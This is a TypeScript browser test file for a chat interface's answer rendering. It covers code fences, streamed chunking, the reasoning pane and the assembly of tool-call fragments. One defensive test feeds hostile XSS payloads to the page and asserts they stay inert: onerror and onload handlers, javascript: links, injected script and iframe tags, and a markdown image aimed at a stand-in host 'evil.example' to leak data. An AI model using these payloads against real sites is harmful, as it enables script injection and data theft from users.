/** Modules of the page at / on their own in a real browser: how an answer is put together, whatever it says and however it is cut. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, normalize } from 'node:path';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import { packageRoot } from '../../../native/index.js';
import { Browser } from '../browser.js';

const sources = join(packageRoot(), 'daemon/front/pages');
const server = createServer(({ url = '/' }, response) => {
  const script = url.endsWith('.js');
  response.setHeader('content-type', script ? 'text/javascript' : 'text/html');
  response.end(script ? readFileSync(join(sources, normalize(url))) : '<!doctype html><title>parts</title><main></main>');
});
await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
const browser = await Browser.start();
after(async () => {
  await browser.close();
  server.close();
});
before(async () => {
  const { port } = server.address() as AddressInfo; // it listens on a port
  await browser.open(`http://127.0.0.1:${port}/`, "document.querySelector('main') !== null");
  await browser.value(`(async () => {
    const { answerText } = await import('/home/chat/markdown.js');
    const { answerTurn } = await import('/home/chat/turn.js');
    window.shown = (pieces) => {
      const box = document.createElement('div');
      const text = answerText(box);
      for (const piece of pieces) text.push(piece);
      text.end();
      return { texts: [...box.children].map((part) => [part.className || 'text', part.querySelector('code, p')?.textContent ?? part.textContent]), html: box.innerHTML };
    };
    window.turn = (choices) => {
      const made = answerTurn(false);
      for (const choice of choices) made.add(choice);
      made.end(null, '');
      document.querySelector('main').replaceChildren(made.node);
      return made.message;
    };
  })()`);
});

const shown = async (pieces: readonly string[]) =>
  (await browser.value(`window.shown(${JSON.stringify(pieces)})`)) as { texts: [string, string][]; html: string };

test('blocks of code stand between fences; all else is text as it was written', async () => {
  const { texts } = await shown(['before\n```js\nlet a = 1;\n\n```\nafter **bold** `code`\n\n# no head\n']);
  assert.deepEqual(texts, [
    ['text', 'before\n'],
    ['code', 'let a = 1;\n\n'],
    ['text', 'after **bold** `code`\n\n# no head\n'],
  ]);
  assert.deepEqual(
    (await shown(['````\n```\ninner\n```\n````\n'])).texts,
    [['code', '```\ninner\n```\n']],
    'a longer fence holds shorter ones',
  );
  assert.deepEqual((await shown(['```py\nnever closed'])).texts, [['code', 'never closed']]);
  assert.deepEqual((await shown(['a `', '`` b\n'])).texts, [['text', 'a ``` b\n']], 'a fence begins a line');
});

test('an answer looks the same however it is cut', async () => {
  const part = fc.constantFrom('word ', '\n', '```', '```js\n', '`', '  ', 'x\n', '````\n', '<b>', '&amp;');
  const cases = fc.sample(fc.tuple(fc.array(part, { maxLength: 14 }), fc.array(fc.nat(60), { maxLength: 8 })), 120);
  for (const [parts, cuts] of cases) {
    const text = parts.join('');
    const places = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b), text.length];
    const pieces = places.slice(1).map((place, i) => text.slice(places[i], place));
    assert.equal((await shown(pieces)).html, (await shown([text])).html, JSON.stringify(pieces));
  }
});

test('hostile text makes no element but those of the page', async () => {
  const hostile = [
    '<img src=x onerror=window.hit=1>',
    '[click](javascript:window.hit=1)',
    '```"><script>window.hit=1</script>\n<svg onload=window.hit=1>\n```',
    '![x](https://evil.example/?leak)',
    '</code></pre><iframe src=javascript:window.hit=1>',
    '\u202e<a href=//evil.example>',
  ].join('\n');
  await browser.value(`window.turn([{ delta: { content: ${JSON.stringify(hostile)}, reasoning_content: ${JSON.stringify(hostile)} } }])`);
  assert.equal(await browser.value("document.querySelectorAll('main img, main script, main svg, main a, main iframe').length"), 0);
  assert.equal(await browser.value('window.hit'), undefined);
  assert.ok(String(await browser.value("document.querySelector('main').textContent")).includes('<img src=x onerror=window.hit=1>'));
  assert.ok(browser.asked.every((url) => url.startsWith('http://127.0.0.1:')));
});

test('reasoning stands apart, pieces of calls are put together, and the next question tells the model all of it', async () => {
  const call = (index: number, more: object) => ({ delta: { tool_calls: [{ index, ...more }] } });
  const message = await browser.value(
    `window.turn(${JSON.stringify([
      { delta: { role: 'assistant', reasoning_content: 'Let me ' } },
      { delta: { reasoning_content: 'think.' } },
      call(0, { id: 'a', type: 'function', function: { name: 'first', arguments: '{"x":' } }),
      call(0, { function: { arguments: '1}' } }),
      call(1, { id: 'b', type: 'function', function: { name: 'second', arguments: 'no JSON <b>' } }),
    ])})`,
  );
  assert.deepEqual(message, {
    role: 'assistant',
    content: '',
    reasoning_content: 'Let me think.',
    tool_calls: [
      { id: 'a', type: 'function', function: { name: 'first', arguments: '{"x":1}' } },
      { id: 'b', type: 'function', function: { name: 'second', arguments: 'no JSON <b>' } },
    ],
  });
  assert.equal(await browser.value("document.querySelector('.reasoning-text').textContent"), 'Let me think.');
  assert.deepEqual(await browser.value("[...document.querySelectorAll('.call pre')].map((node) => node.textContent)"), [
    '{\n  "x": 1\n}',
    'no JSON <b>',
  ]);
  assert.equal(await browser.value("document.querySelector('.answer').checkVisibility()"), false, 'no gap where there is no text');
});
